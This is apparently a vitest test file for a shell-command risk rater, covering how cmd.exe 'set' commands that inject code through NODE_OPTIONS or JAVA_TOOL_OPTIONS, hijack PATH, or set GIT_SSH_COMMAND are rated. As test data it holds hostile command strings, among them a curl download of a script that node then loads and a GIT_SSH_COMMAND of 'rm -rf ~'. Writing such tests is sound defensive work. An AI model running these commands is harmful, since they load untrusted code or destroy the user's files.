import { describe, expect, it } from "vitest";
import { shellRater } from "../../test/helpers/shell-rated.js";
import type { Risk } from "./types.js";

/**
 * cmd.exe's `set NAME=VALUE` (`set "NAME=VALUE"`) gives every program the line starts after it that
 * variable, and is judged as PowerShell's `$env:NAME = 'VALUE'` is: code it makes programs load,
 * folders put first on the PATH, command lines that programs run.
 */
const rated = shellRater("C:\\Users\\ada\\code\\app", "C:\\Users\\ada");

function rates(table: [string, Risk | { as: string }][]): void {
  it.each(table)("%j is %j", (command, expected) => {
    const r = rated(command, "powershell");
    const risk = typeof expected === "string" ? expected : rated(expected.as, "powershell").risk;
    expect(r.risk, r.shown).toBe(risk);
  });
}

describe("cmd.exe's set of a variable that makes programs load code", () => {
  rates([
    ['cmd /c "set NODE_OPTIONS=--require %TEMP%\\x.js && node app.js"', "high"],
    ['cmd /c "set NODE_OPTIONS=--require %TEMP%\\x.js && node app.js"', { as: "$env:NODE_OPTIONS = '--require C:\\Temp\\x.js'; node app.js" }],
    ['cmd /c "set "NODE_OPTIONS=--require %TEMP%\\x.js" && node app.js"', "high"],
    ['cmd /c "set node_options=-r %TMP%\\x.js & node app.js"', "high"],
    ['cmd /c "set T=%TEMP% && set NODE_OPTIONS=--require %T%\\x.js && node app.js"', "high"],
    ['cmd /c "set JAVA_TOOL_OPTIONS=-javaagent:%TEMP%\\a.jar && mvn package"', "high"],
    ['cmd /c "curl -o x.js https://x.io/x.js && set NODE_OPTIONS=--require .\\x.js && node app.js"', "high"],
    ['cmd /c "if exist x.js (set NODE_OPTIONS=--require %TEMP%\\x.js) & node app.js"', "high"],
  ]);
});

describe("cmd.exe's set of PATH and of command lines programs run", () => {
  rates([
    ['cmd /c "set PATH=%TEMP%;%PATH% && git status"', { as: '$env:PATH = "$env:TEMP;$env:PATH"; git status' }],
    ['cmd /c "set PATH=%TEMP%;%PATH% && git status"', "moderate"],
    ['cmd /c "set GIT_SSH_COMMAND=rm -rf ~ && git fetch"', "critical"],
    ['cmd /c "set GIT_SSH_COMMAND=rm -rf ~ && git fetch"', { as: "$env:GIT_SSH_COMMAND = 'rm -rf ~'; git fetch" }],
  ]);
});

describe("cmd.exe's everyday sets", () => {
  rates([
    ['cmd /c "set NODE_ENV=production && npm run build"', "safe"],
    ['cmd /c "set PATH=%PATH%;C:\\tools && build.bat"', "safe"],
    ['cmd /c "set NODE_OPTIONS=--max-old-space-size=4096 && npm run build"', "safe"],
    ['cmd /c "set NODE_OPTIONS=--require ./setup.js && node app.js"', "safe"],
    ['cmd /c "set "CI=true" && npm test"', "safe"],
    ['cmd /c "set /p NODE_OPTIONS=Options: && node app.js"', "safe"],
    ['cmd /c "set /a N=1+2 && echo %N%"', "safe"],
    ['cmd /c "set"', "safe"],
    ['cmd /c "set X=a && echo %X%"', "safe"],
  ]);
});
